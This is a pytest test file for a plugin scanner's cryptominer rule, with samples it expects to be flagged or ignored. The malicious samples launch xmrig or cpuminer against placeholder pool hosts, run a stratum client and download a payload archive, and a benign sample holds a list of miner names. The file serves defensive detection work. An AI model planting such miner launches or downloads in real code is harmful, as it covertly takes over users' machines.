"""PY-CRYPTOMINER: launching miners, pool connections, stratum protocol; bundled miner configs/binaries."""

from __future__ import annotations

import textwrap

import pytest

from plugyard_analysis.rules.mining import CRYPTOMINER, check_miner, check_miner_file
from plugyard_analysis.sources import parse_python, read_plugin_file

WALLET = "4A" + ("FakeWa11etAddressForTests" * 4)[:93]


def hits(code: str) -> list[tuple[str, str]]:
    src = parse_python("sample/mod.py", textwrap.dedent(code).encode())
    return [(hit.severity or CRYPTOMINER.severity, hit.detail) for hit in check_miner(src)]


def file_hits(path: str, data: bytes) -> list[tuple[str, str]]:
    return [(hit.severity or CRYPTOMINER.severity, hit.detail) for hit in check_miner_file(read_plugin_file(path, data))]


MALICIOUS = {
    "xmrig popen": """
        import subprocess
        subprocess.Popen(["/tmp/xmrig", "-o", "pool.example.invalid:3333", "-u", "w"])
    """,
    "renamed binary with stratum url": """
        import subprocess
        POOL = "stratum+tcp://xmr.example.invalid:4444"
        subprocess.Popen(["./.kworker", "--url", POOL])
    """,
    "os.system cpuminer": """
        import os
        os.system("nohup ./cpuminer -a sha256d -o stratum+tcp://pool.example.invalid:3333 &")
    """,
    "donate-level argument": """
        import subprocess
        subprocess.run(["./helper", "--donate-level=1", "-o", "x"])
    """,
    "known pool host launched": """
        import subprocess
        subprocess.Popen(["./svc", "-o", "gulf.moneroocean.stream.invalid:10128"])
    """,
    "python stratum client": """
        import socket, json
        s = socket.create_connection(("pool.example.invalid", 3333))
        s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": []}).encode())
        s.sendall(json.dumps({"id": 2, "method": "mining.authorize", "params": ["w", "x"]}).encode())
    """,
    "pool url with wallet": f"""
        CONFIG = {{"url": "stratum+ssl://pool.example.invalid:443", "user": "{WALLET}"}}
    """,
    "pool url and downloader": """
        import urllib.request
        POOL = "xmr.supportxmr.com.invalid:443"
        urllib.request.urlretrieve("https://downloads.example.invalid/m.tgz", "/tmp/m.tgz")
    """,
}

BENIGN = {
    "kill known miners": """
        import subprocess
        for name in ("xmrig", "cpuminer"):
            subprocess.run(["pkill", "-f", name])
    """,
    "miner names in a list": """
        MINERS = {"xmrig", "ethminer", "nbminer"}
        def is_miner(process_name):
            return process_name.lower() in MINERS
    """,
    "thread pool and hashing": """
        import hashlib
        from concurrent.futures import ThreadPoolExecutor
        with ThreadPoolExecutor() as pool:
            digests = list(pool.map(lambda b: hashlib.sha256(b).hexdigest(), [b"a", b"b"]))
    """,
    "database pool host": """
        import socket
        HOST = "db-pool.example.com:6432"
        socket.create_connection(("db-pool.example.com", 6432))
    """,
    "crypto prices": """
        import urllib.request
        urllib.request.urlopen("https://prices.example.com/?ids=monero,bitcoin")
    """,
    "http service on a pool host": """
        import subprocess
        subprocess.run(["curl", "-s", "http://pool.internal.example.com:9000/health"])
    """,
    "pool web API (balance dashboard)": """
        import requests
        BALANCE = "https://api.nanopool.org.invalid/v1/xmr/balance/{wallet}"
        def balance(wallet):
            return requests.get(BALANCE.format(wallet=wallet), timeout=10).json()
    """,
    "ntp pool": """
        import socket
        socket.getaddrinfo("pool.ntp.org", 123)
    """,
}


@pytest.mark.parametrize("name", sorted(MALICIOUS))
def test_flags_mining(name: str) -> None:
    found = hits(MALICIOUS[name])
    assert found, name
    assert found[0][0] == "critical", found


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_ignores_benign_lookalikes(name: str) -> None:
    assert hits(BENIGN[name]) == []


def test_pool_url_alone_is_low() -> None:
    assert [s for s, _ in hits('EXAMPLE = "stratum+tcp://pool.example.invalid:3333"')] == ["low"]


def test_xmrig_config_file() -> None:
    config = b'{"donate-level": 1, "pools": [{"url": "pool.example.invalid:3333", "user": "w"}]}'
    assert [s for s, _ in file_hits("sample/config.json", config)] == ["critical"]


def test_plain_json_config_is_not_flagged() -> None:
    assert file_hits("sample/config.json", b'{"pools": [{"url": "https://api.example.com"}], "level": 1}') == []


def test_bundled_miner_binary() -> None:
    assert file_hits("sample/bin/xmrig", b"\x7fELF\x02\x01\x01" + b"\x00" * 64)
    assert file_hits("sample/bin/helper", b"\x7fELF\x02\x01\x01\x00 donate.v2.xmrig.com \x00")
    assert file_hits("sample/bin/helper", b"\x7fELF\x02\x01\x01\x00 plain binary \x00") == []


def test_python_files_are_left_to_the_python_rule() -> None:
    assert file_hits("sample/xmrig.py", b"print('hi')\n") == []
